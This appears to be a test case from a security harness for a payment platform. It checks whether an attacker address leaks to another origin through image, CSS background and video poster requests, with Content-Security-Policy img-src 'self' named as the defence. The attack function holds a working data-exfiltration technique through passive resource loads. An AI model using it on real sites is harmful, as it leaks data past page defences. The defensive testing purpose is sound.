// F06: an address leaves in the address of an image, of a background and of a poster.
import { reachedServer } from './logs.mjs';

export default {
  id: 'F06',
  title: 'images carry the attacker',
  source: 'the platform',
  level: { needs: "Content-Security-Policy: img-src 'self'" },
  why: 'what a page loads for show is no door: what an image asks for orders nobody to pay',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const at = (how) => `${a.other}/api/echo?${how}&to=${a.EVIL}`;
    new Image().src = at('image');
    const box = document.createElement('div');
    box.style.cssText = `width:9px;height:9px;background:url("${at('background')}")`;
    const film = document.createElement('video');
    film.poster = at('poster');
    document.documentElement.append(box, film);
    await new Promise((resolve) => setTimeout(resolve, 300));
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ http, a }) => reachedServer(http, a.EVIL, '/api/echo'),
  arrived: ({ result }) => result === 200,
};
